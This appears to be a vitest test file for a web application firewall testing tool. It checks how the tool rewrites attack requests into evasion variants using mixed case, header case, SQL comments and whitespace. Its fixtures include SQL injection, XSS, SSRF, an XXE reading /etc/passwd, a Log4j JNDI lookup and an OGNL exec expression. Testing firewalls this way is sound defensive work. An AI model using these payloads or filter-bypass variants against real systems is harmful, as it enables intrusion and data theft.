// mixed-case, header-case, sql-comment, sql-whitespace.

import { describe, expect, it } from 'vitest';
import { type HttpRequest, type RequestInit, buildRequest } from '../requests/model.js';
import { lowercase } from '../evaluator/transforms/lowercase.js';
import { replaceComments } from '../evaluator/transforms/replace-comments.js';
import { urlDecode } from '../evaluator/transforms/url-decode.js';
import { deriveVariants } from './index.js';
import { alternateCase } from './techniques/mixed-case.js';
import { sqlSeparators } from './sql.js';

const HEADERS: [string, string][] = [
  ['Host', 't.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) like Gecko'],
];

function req(init: Partial<RequestInit> & { uri: string }): HttpRequest {
  return buildRequest({ id: 'r', method: 'GET', headers: HEADERS, expect: 'block', ...init });
}

const only = (r: HttpRequest, t: string) => deriveVariants(r, { techniques: [t] });

describe('mixed-case', () => {
  it('alternateCase alternates over letters, and starts lower when upper-first changes nothing', () => {
    expect(alternateCase('select')).toBe('SeLeCt');
    expect(alternateCase('User-Agent')).toBe('UsEr-AgEnT');
    expect(alternateCase('SeLeCt')).toBe('sElEcT');
  });

  it('sqli: flips SQL keywords and functions, never identifiers, only in values that look like SQL', () => {
    const r = req({
      uri: '/item?id=1%20union%20select%20password,md5(1)%20from%20users&name=and%20or',
      class: 'sqli',
    });
    const [payload, names] = only(r, 'mixed-case');
    expect(payload!.uri).toBe('/item?id=1%20UnIoN%20SeLeCt%20password,Md5(1)%20FrOm%20users&name=and%20or');
    expect(lowercase(payload!.uri)).toBe(lowercase(r.uri));
    expect(names!.uri).toBe(r.uri);
    expect(names!.headers).toEqual([
      ['HoSt', 't.example'],
      ['UsEr-AgEnT', HEADERS[1]![1]],
    ]);
    expect(payload!.id).toBe('r~mixed-case-1');
    expect(names!.id).toBe('r~mixed-case-2');
  });

  it('xss: flips tag and attribute names and script schemes, not the JavaScript', () => {
    const r = req({
      uri: '/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E&u=javascript:alert(2)',
      class: 'xss',
    });
    const [payload] = only(r, 'mixed-case');
    expect(payload!.uri).toBe('/s?q=%3CImG%20SrC=x%20OnErRoR=alert(1)%3E&u=JaVaScRiPt:alert(2)');
  });

  it('xss: attribute values are never taken for attribute names', () => {
    const r = req({ uri: '/s?q=%3Ca%20href=%22/x=1%22%20autofocus%20onfocus=alert(1)%3E', class: 'xss' });
    expect(only(r, 'mixed-case')[0]!.uri).toBe(
      '/s?q=%3CA%20HrEf=%22/x=1%22%20AuToFoCuS%20OnFoCuS=alert(1)%3E',
    );
  });

  it('ssrf and xxe: flips URL schemes only', () => {
    const r = req({ uri: '/fetch?url=http://127.0.0.1/admin', class: 'ssrf' });
    expect(only(r, 'mixed-case')[0]!.uri).toBe('/fetch?url=HtTp://127.0.0.1/admin');
    const x = req({
      method: 'POST',
      uri: '/x',
      headers: [...HEADERS, ['Content-Type', 'text/xml']],
      body: '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
      class: 'xxe',
    });
    expect(only(x, 'mixed-case')[0]!.body).toBe(
      '<!DOCTYPE a [<!ENTITY e SYSTEM "FiLe:///etc/passwd">]><a>&e;</a>',
    );
  });

  it('jndi-injection: flips the Log4j lookup prefix (lower-cased by Log4j), not the JNDI scheme', () => {
    const r = req({
      uri: '/',
      headers: [...HEADERS, ['X-Api-Version', '${jndi:ldap://x.example/a}']],
      class: 'jndi-injection',
    });
    expect(only(r, 'mixed-case')[0]!.headers.at(-1)).toEqual(['X-Api-Version', '${JnDi:ldap://x.example/a}']);
  });

  it('case-sensitive or unknown classes: header names only', () => {
    for (const cls of ['expression-injection', 'command-injection', undefined]) {
      const r = req({ uri: '/a?x=%25%7B@java.lang.Runtime@getRuntime().exec(%27ID%27)%7D', class: cls });
      const vs = only(r, 'mixed-case');
      expect(vs).toHaveLength(1);
      expect(vs[0]!.id).toBe('r~mixed-case');
      expect(vs[0]!.uri).toBe(r.uri);
      expect(vs[0]!.headers[0]).toEqual(['HoSt', 't.example']);
    }
  });
});

describe('header-case', () => {
  it('lower-cases, then upper-cases every header name, values untouched', () => {
    const [lower, upper] = only(req({ uri: '/' }), 'header-case');
    expect(lower!.headers).toEqual([
      ['host', 't.example'],
      ['user-agent', HEADERS[1]![1]],
    ]);
    expect(upper!.headers).toEqual([
      ['HOST', 't.example'],
      ['USER-AGENT', HEADERS[1]![1]],
    ]);
    expect([lower!.id, upper!.id]).toEqual(['r~header-case-1', 'r~header-case-2']);
  });

  it('drops a form equal to the original', () => {
    const r = buildRequest({ id: 'r', method: 'GET', uri: '/', headers: [['host', 'a']] });
    const vs = only(r, 'header-case');
    expect(vs.map((v) => v.headers)).toEqual([[['HOST', 'a']]]);
    expect(vs[0]!.id).toBe('r~header-case');
  });
});

describe('sql separators', () => {
  it('finds spaces and the gaps after , ) and keywords before (, never inside literals or after --', () => {
    const s = "1' union select 'a b',(SELECT(1))x-- -";
    const seps = sqlSeparators(s).map((x) => [x.start, x.end, x.kind]);
    expect(seps).toEqual([
      [2, 3, 'space'],
      [8, 9, 'space'],
      [15, 16, 'space'],
      [22, 22, 'gap'],
      [29, 29, 'gap'],
      [33, 33, 'gap'],
    ]);
  });
});

describe('sql-comment', () => {
  it('puts /**/ between SQL tokens, not between a function and its (', () => {
    const r = req({
      uri: '/item?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))x)--%20-',
      class: 'sqli',
    });
    const vs = only(r, 'sql-comment');
    expect(vs.map((v) => v.uri)).toEqual([
      '/item?id=1/**/AND/**/(SELECT/**/1/**/FROM/**/(SELECT/**/(SLEEP(5)))/**/x)--%20-',
    ]);
    expect(vs[0]!.id).toBe('r~sql-comment');
    // REPLACE_COMMENTS turns each comment back into a space: the statement is the same tokens.
    const tokens = (u: string) =>
      replaceComments(urlDecode(u))
        .replace(/\s+/g, ' ')
        .replace(/ ?([()]) ?/g, '$1');
    expect(tokens(vs[0]!.uri)).toBe(tokens(r.uri));
  });

  it('keeps string literals and the space after -- as they are', () => {
    const r = req({ uri: "/item?q=1'%20union%20select%20'a%20b',2--%20-", class: 'sqli' });
    expect(only(r, 'sql-comment')[0]!.uri).toBe("/item?q=1'/**/union/**/select/**/'a%20b',/**/2--%20-");
  });

  it('only for sqli, and only in values that look like SQL', () => {
    expect(only(req({ uri: '/item?id=1%20union%20select%202', class: 'xss' }), 'sql-comment')).toEqual([]);
    expect(only(req({ uri: '/item?q=hello%20world', class: 'sqli' }), 'sql-comment')).toEqual([]);
  });
});

describe('sql-whitespace', () => {
  it('tab, line feed, then + for %20 (or %20 for +) in URL slots', () => {
    const r = req({ uri: '/item?id=1%20union%20select%202', class: 'sqli' });
    expect(only(r, 'sql-whitespace').map((v) => [v.id, v.uri])).toEqual([
      ['r~sql-whitespace-1', '/item?id=1%09union%09select%092'],
      ['r~sql-whitespace-2', '/item?id=1%0Aunion%0Aselect%0A2'],
      ['r~sql-whitespace-3', '/item?id=1+union+select+2'],
    ]);
    const plus = req({ uri: '/item?id=1+union+select+2', class: 'sqli' });
    expect(only(plus, 'sql-whitespace').at(-1)!.uri).toBe('/item?id=1%20union%20select%202');
  });

  it('header values get the tab form only (a line feed would end the header)', () => {
    const r = req({ uri: '/item', headers: [...HEADERS, ['X-Id', '1 union select 2']], class: 'sqli' });
    const vs = only(r, 'sql-whitespace');
    expect(vs.map((v) => v.headers.at(-1))).toEqual([['X-Id', '1\tunion\tselect\t2']]);
  });
});
